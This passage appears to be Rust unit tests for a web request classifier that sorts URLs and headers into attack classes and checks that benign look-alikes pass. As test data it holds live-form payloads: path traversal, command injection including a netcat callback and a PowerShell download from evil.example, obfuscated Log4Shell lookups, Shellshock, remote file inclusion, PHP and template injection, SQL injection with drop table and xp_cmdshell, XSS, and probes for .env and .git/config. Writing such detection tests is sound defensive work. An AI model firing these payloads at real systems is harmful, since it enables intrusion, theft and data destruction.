            ("/f?p=d:\\inetpub\\wwwroot\\global.asa", Traversal),
            ("/f?p=file:/c:/windows/win.ini", Traversal),
            ("/f?p=///etc/passwd", Traversal),
            ("////etc/passwd", Traversal),
            ("/ping?host=1.1.1.1; cat /etc/passwd", CommandInjection),
            ("/ping?host=x;whoami", CommandInjection),
            ("/ping?host=x | cat /etc/hosts", CommandInjection),
            ("/ping?host=x && ls -la", CommandInjection),
            ("/ping?host=`whoami`", CommandInjection),
            ("/ping?host=$(whoami)", CommandInjection),
            ("/search?q=<script>alert(1)</script>", CrossSiteScripting),
            ("/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", CrossSiteScripting),
        ] {
            assert_eq!(class_of(raw), Some(class), "{raw}");
        }
    }

    fn header_class_of(raw: &str) -> Option<AttackClass> {
        let mut normalized = String::new();
        normalize(raw, &mut normalized);
        patterns()
            .classify_part(&normalized, Part::Header)
            .map(|(class, _)| class)
    }

    #[test]
    fn the_classes_scanners_send_are_caught() {
        use AttackClass::*;
        for (raw, class) in [
            ("/?x=${jndi:ldap://evil.example/a}", JndiLookup),
            ("/?x=${${lower:j}${upper:n}${lower:d}${upper:i}:ldap://e/a}", JndiLookup),
            ("/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://e/a}", JndiLookup),
            ("/?x=${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://e/a}", JndiLookup),
            ("/?x=${jndi:${lower:l}${lower:d}a${lower:p}://e/a}", JndiLookup),
            (
                "/?search=%24%7Bscript%3Ajs%3Ajava.lang.Runtime.getRuntime%28%29%7D",
                JndiLookup,
            ),
            ("/cgi-bin/test.cgi?x=() { :; }; /bin/id", Shellshock),
            ("/p?file=http://evil.example/shell.txt?", RemoteFileInclusion),
            ("/p?page=http://evil.example/shell.txt", RemoteFileInclusion),
            ("/p?x=gopher://127.0.0.1:6379/_flushall", RemoteFileInclusion),
            ("/p?x=<?php system($_GET['c']); ?>", PhpInjection),
            ("/p?page=php://input", PhpInjection),
            ("/p?page=data://text/plain;base64,PD9waHA=", PhpInjection),
            ("/p?page=expect://id", PhpInjection),
            ("/p?x=$_SERVER['x']", PhpInjection),
            ("/p?name={{7*7}}", TemplateInjection),
            ("/p?name=${7*7}", TemplateInjection),
            ("/p?name=#{7*7}", TemplateInjection),
            ("/p?name={{''.__class__.__mro__}}", TemplateInjection),
            ("/p?x=java.lang.Runtime", JavaInjection),
            ("/p?class.module.classLoader.URLs%5B0%5D=0", JavaInjection),
            ("/p?x=%28%23_memberAccess%3D1%29", JavaInjection),
            ("/.git/config", SensitiveFile),
            ("/.env", SensitiveFile),
            ("/wp-config.php.bak", SensitiveFile),
            ("/server-status", SensitiveFile),
            ("/backup.sql.gz", SensitiveFile),
            ("/db_2024-01-01.zip", SensitiveFile),
            ("/setup/setupadministrator.action", ExploitProbe),
            (
                "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/f5-release",
                Traversal,
            ),
            ("/ping?host=x;touch x", CommandInjection),
            ("/ping?host=$(id)", CommandInjection),
            ("/ping?host=x;cat${IFS}/etc/passwd", CommandInjection),
            ("/ping?host=x|nc 10.0.0.1 4444", CommandInjection),
            ("/ping?host=x%0aid", CommandInjection),
            ("/ping?host=x %26 dir c:\\", CommandInjection),
            ("/p?x=iwr http://evil.example/a.ps1", CommandInjection),
            ("/p?x=for /f %i in ('dir') do echo %i", CommandInjection),
            ("/q?id=1 order by 1,2,3--", SqlInjection),
            ("/q?id=1;drop table users", SqlInjection),
            ("/q?id=1 and sleep(5)", SqlInjection),
            ("/q?id=1 and benchmark(1000000,md5(1))", SqlInjection),
            ("/q?id=1;waitfor delay '0:0:5'", SqlInjection),
            ("/q?id=1;select pg_sleep(5)", SqlInjection),
        ] {
            assert_eq!(class_of(raw), Some(class), "{raw}");
        }
    }

    #[test]
    fn headers_are_read_for_the_classes_that_ride_in_them() {
        use AttackClass::*;
        assert_eq!(header_class_of("${jndi:ldap://e/a}"), Some(JndiLookup));
        assert_eq!(header_class_of("() { :; }; /bin/bash -c 'id'"), Some(Shellshock));
        assert_eq!(
            header_class_of("' union select user,pass from users--"),
            Some(SqlInjection)
        );
        // Products split by `;` are a User-Agent, not a command line.
        for agent in [
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
            "curl/7.68.0",
            "Java/1.8.0_151",
        ] {
            assert_eq!(header_class_of(agent), None, "{agent}");
        }
        // A path or a parameter value in a header means nothing.
        assert_eq!(header_class_of("https://example.com/.env"), None);
    }

    #[test]
    fn benign_text_that_looks_like_an_attack_is_not_one() {
        for raw in [
            // A parameter named after a command is a query.
            "/item?x=1&id=5",
            "/item?x=1&cat=shoes",
            "/p?a=b;ls=1",
            // A long value ending in dots is prose, not path truncation.
            &format!("/search?q={}..", "lorem ipsum ".repeat(30)),
            // A word in backticks is markdown.
            "/comment?text=run+%60ls%60+first",
            "/comment?text=use+%60cat%60+to+read+it",
            // English with "and ... is".
            "/search?q=cats+and+that+is+all",
            "/search?q=rock+or+roll+is+fine",
            "/search?q=this+and+those+like+it",
            // An unexpanded template variable in a link.
            "/scripts//%22file://$file/%22",
            "/.well-known/security.txt",
            "/blog/c-assert()-considered-harmful",
            "/p?redirect_uri=https://app.example.com/callback",
            "/viewer.html?file=https://example.com/doc.pdf",
            "/products/report-copy.zip",
        ] {
            assert_eq!(class_of(raw), None, "{raw}");
        }
    }

    #[test]
    fn ordinary_requests_are_not_attacks() {
        for raw in [
            "/",
            "/index.html",
            "/products?id=12&sort=price",
            "/search?q=blue+shoes",
            "/api/v1/orders?page=3",
            "/blog/2015/05/select-the-right-tool.html",
            "/search?q=rock+and+roll",
            "/images/banner-2026.png",
            "/presentations/logstash-monitorama-2013/images/kibana-search.png",
            "/q?name=o'brien",
            "/docs/./guide.html",
            "/color?hex=0x2e8b57",
            "/login?next=//cdn.example.com/app.js",
            "/docs//guide.html",
        ] {
            assert_eq!(class_of(raw), None, "{raw}");
        }
    }

    #[test]
    fn a_name_too_long_for_any_file_system_ending_in_dots_is_path_truncation() {
        let padding = "a".repeat(300);
        assert_eq!(
            class_of(&format!("/f?p=/{padding}..boot.ini")),
            Some(AttackClass::Traversal)
        );
        assert_eq!(class_of(&format!("/{padding}....x")), Some(AttackClass::Traversal));
        // A long token (a signed URL, base64) with an ordinary file extension is not.
        assert_eq!(class_of(&format!("/f?token={padding}.png")), None);
        assert_eq!(class_of(&format!("/f?p={}..x", "a".repeat(200))), None);
    }

    #[test]
    fn a_quote_the_request_closes_is_a_phrase_not_an_escape() {
        assert!(breaks_out_of_a_string("q=a' or 1", 3));
        assert!(!breaks_out_of_a_string(r#"q="wood" and "sign""#, 7));
        // Each parameter value counts its own quotes.
        assert!(breaks_out_of_a_string("a=x'y'&q=1' or 1", 10));
        assert!(!breaks_out_of_a_string("", 0));
    }

    #[test]
    fn quoted_sql_needs_an_operand_and_an_escaping_quote() {
        use AttackClass::SqlInjection;
        for raw in [
            "/login?user=a' or 'a'='a",
            "/login?user=admin' OR 1",
            "/q?id=1'or'1'='1",
            "/q?id=1' and col like '%a",
            "/q?id=aa'or binary 1= '1",
            "/q?id=7842' group by 19",
            "/q?id=1'union/*!0select user",
            "/q?id=1';iif(1=1,1,1/0)",
            "/q?id='; while 1=1 shutdown--",
            "/q?id='%2B'1",
        ] {
            assert_eq!(class_of(raw), Some(SqlInjection), "{raw}");
        }
        for raw in [
            "/search?q=%22sweater+dress%22+and+%22christmas%22",
            "/search?q=%22wood%22+and+%22sign%22+and+%22polka+dots%22",
            "/search?q=dancin%27+like+a+robot",
            "/search?q=18%22+and+is+composed+of+brass",
            "/search?q=o%27+union+selected+a+few+friends",
            "/search?q=%22wild+olive%22+%2B+%22yellow+cherries%22",
            "/search?q=dress+with+hat+18%27%3B",
            "/search?q=bookmar%27%3B%5Bk%5D",
        ] {
            assert_eq!(class_of(raw), None, "{raw}");
        }
    }

    #[test]
    fn sql_words_in_prose_are_not_statements() {
        for raw in [
            "/search?q=please+select+pair+%231",
            "/search?q=base%3B+set+swarovski",
            "/search?q=1%3B+exec+will+create+the+case",
        ] {
            assert_eq!(class_of(raw), None, "{raw}");
        }
        for raw in [
            "/q?id=1 select user from dual",
            "/q?id=1; exec xp_cmdshell 'dir'",
            "/q?id=1; set @a=1",
            "/q?id=(select substr(login,1,1))",
        ] {
            assert_eq!(class_of(raw), Some(AttackClass::SqlInjection), "{raw}");
        }
    }

    #[test]
    fn a_comment_cuts_off_the_query_only_when_nothing_follows_it() {
        use AttackClass::SqlInjection;
        for raw in [
            "/login?user=admin'--",
            "/login?user=admin'%23&pass=x",
            "/q?id=aa'^0%2B1-1%3D(0)--+-a",
            "/q?id=1--",
            "/q?id=1 * 1 --",
            "/q?id=26544 group by 19--",
        ] {
            assert_eq!(class_of(raw), Some(SqlInjection), "{raw}");
        }
        for raw in [
            "/search?q=7%22+%232+circular+needle",
            "/search?q=foo+bar%27%23+blah",
            "/search?q=dresses%27+--infant+-child",
            "/search?q=paper+pack+(8.5x11%22-300+dpi)+--+10+digital+papers",
            "/q?id=1,1--",
            "/q?id=%221--",
        ] {
            assert_eq!(class_of(raw), None, "{raw}");
        }
    }

    #[test]
    fn an_operand_must_do_something_in_sql() {
        use AttackClass::SqlInjection;
        for raw in [
            "/q?id=395 and 0",
            "/q?id=a' or 'b",
            "/q?id=' or '",
            "/q?id=1' or '1",
            "/q?id=1' and 0x41=0x41",
            "/q?id=aa' xor- column != -'0",
            "/q?id=foo'%2B ascii(substring(passwd,1,1))",
        ] {
            assert_eq!(class_of(raw), Some(SqlInjection), "{raw}");
        }
        for raw in [
            // Two years, a number and a quantity: no truth value an attacker would test.
            "/search?q=1950+or+1960",
            "/search?q=00+and+3",
            // A number runs into a quote: no database reads that.
            "/search?q=1950%27+and+60%27s+coats",
            // A string that is neither a number nor compared is always false.
            "/search?q=%27countdown+calendar%22+and+%22disney:",
            "/search?q=%22like%22%2Bstamp",
            "/search?q=%22and%2Bwhen%2Bthe%2Bkids%22",
        ] {
            assert_eq!(class_of(raw), None, "{raw}");
        }
    }

    #[test]
    fn a_sentence_about_a_query_is_not_one() {
        assert!(!reads_as_a_query("select x from y where", 0));
        assert!(!reads_as_a_query("/s?q=select x from y where", 5));
        assert_eq!(class_of("/search?q=select+x+from+y+where"), None);
        for raw in [
            "/q?id=select 1 from foo where",
            "/q?id=1 and (select pass from users where",
            "/q?id=select pass from users",
        ] {
            assert_eq!(class_of(raw), Some(AttackClass::SqlInjection), "{raw}");
        }
    }

    #[test]
    fn shell_commands_ending_in_a_comment_are_command_injection() {
        for raw in [
            "/help.php?q='%0dsleep%097%09%23",
            "/help.php?q='\\x0dsleep\\x097\\x09#",
            "/main.php?stuff=%22uname+%3Eq94914736+%23",
            "/main.php?logout=';del q85646861 #",
        ] {
            assert_eq!(class_of(raw), Some(AttackClass::CommandInjection), "{raw}");
        }
        assert_eq!(class_of("/search?q=sleep+%23"), None);
    }

    #[test]
    fn traversal_needs_a_path_not_markup_or_an_ellipsis() {
        for raw in [
            "/f?p=..%c0%af..%c0%afetc/passwd",
            "/..\\xc0\\xaf/admin/config.php",
            "/f?p=/..",
            "/f?p=/....{file}",
        ] {
            assert_eq!(class_of(raw), Some(AttackClass::Traversal), "{raw}");
        }
        for raw in ["/search?q=junk <a href=\"../\">foo.com</a>", "/search?q=wait/..."] {
            assert_eq!(class_of(raw), None, "{raw}");
        }
    }

    #[test]
    fn only_links_that_leave_or_run_script_are_cross_site_scripting() {
        for raw in [
            "/search?q=<a href=\"javascript:alert(1)\">x</a>",
            "/search?q=<a href=\"//evil.example\">x</a>",
            "/search?q=<a href=jAvAsCrIpT&colon;alert&lpar;1&rpar;>x</a>",
            "/search?q=<a/onmouseover=location=1>x",
            "/search?q=<b onmouseleave=\"x\">",
        ] {
            assert_eq!(class_of(raw), Some(AttackClass::CrossSiteScripting), "{raw}");
        }
        for raw in [
            "/search?q=blah <a href=\"/foo.html\">foo</a>",
            "/search?q=laptop case 14&#39;",
            "/search?q=cat2_gallery_20\">etsy</a",
        ] {
            assert_eq!(class_of(raw), None, "{raw}");
        }
    }
}
